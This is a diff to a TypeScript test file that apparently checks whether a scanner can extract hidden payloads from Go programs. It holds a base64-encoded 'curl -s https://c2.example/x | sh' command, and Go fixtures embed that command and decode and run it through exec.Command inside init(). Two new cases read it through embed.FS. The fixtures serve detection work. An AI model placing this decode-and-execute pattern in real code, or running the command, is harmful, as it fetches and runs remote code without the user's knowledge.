@@ -2,7 +2,7 @@ import { expect, test } from 'vitest';
 import { textsOf } from '../../support/values.ts';
 
 const program = (declaration: string, use: string) =>
-  `package m\n\nimport (\n\t_ "embed"\n\t"encoding/base64"\n\t"encoding/hex"\n\t"os/exec"\n\t"strings"\n)\n\nvar _, _, _ = hex.EncodeToString, base64.StdEncoding, strings.ToLower\n\n${declaration}\n\nfunc init() {\n\t${use}\n}\n`;
+  `package m\n\nimport (\n\t"embed"\n\t"io/fs"\n\t"encoding/base64"\n\t"encoding/hex"\n\t"os/exec"\n\t"strings"\n)\n\nvar _, _, _, _ = fs.Sub, hex.EncodeToString, base64.StdEncoding, strings.ToLower\nvar _ embed.FS\n\n${declaration}\n\nfunc init() {\n\t${use}\n}\n`;
 const COMMAND = 'curl -s https://c2.example/x | sh';
 const encoded = Buffer.from(COMMAND).toString('base64');
 const run = 'exec.Command("sh", "-c", string(x)).Run()';
@@ -27,6 +27,16 @@ test.each([
     'a pattern for one file',
     '//go:embed data.*\nvar data string',
     `x, _ := base64.StdEncoding.DecodeString(data); ${run}`,
+  ],
+  [
+    'a folder',
+    '//go:embed data.txt\nvar data embed.FS',
+    `b, _ := data.ReadFile("data.txt"); x, _ := base64.StdEncoding.DecodeString(string(b)); ${run}`,
+  ],
+  [
+    'a folder that is read through',
+    '//go:embed *.txt\nvar data embed.FS',
+    `files, _ := fs.ReadDir(data, "."); for _, f := range files { b, _ := fs.ReadFile(data, f.Name()); x, _ := base64.StdEncoding.DecodeString(string(b)); ${run} }`,
   ],
 ])('%s', async (_, declaration, use) => {
   const { strings } = await textsOf({ 'a.go': program(declaration, use), 'data.txt': encoded });
